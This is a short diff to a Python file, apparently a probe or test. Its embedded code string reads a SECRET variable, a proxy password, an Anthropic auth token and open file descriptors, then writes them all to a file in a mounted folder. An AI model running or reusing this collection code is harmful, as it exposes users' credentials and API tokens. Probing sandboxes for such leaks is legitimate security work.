@@ -1,6 +1,8 @@
 NAMES = ("arguments", "units", "files", "environment", "descriptors")
 TOLD = r'''
 import urllib.parse
+# The file with all of it is for nobody but the folder's owner, or it would be what is looked for.
+os.umask(0o077)
 fds = {int(n): os.readlink(f"/proc/self/fd/{n}") for n in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{n}")}
 extra = {n: t for n, t in fds.items() if n > 2}
 open(os.path.expanduser("~/mnt/f/told"), "w").write(json.dumps({"secret": os.environ["SECRET"], "proxy": urllib.parse.urlparse(os.environ["HTTP_PROXY"]).password, "model": os.environ["ANTHROPIC_AUTH_TOKEN"], "fds": extra}))
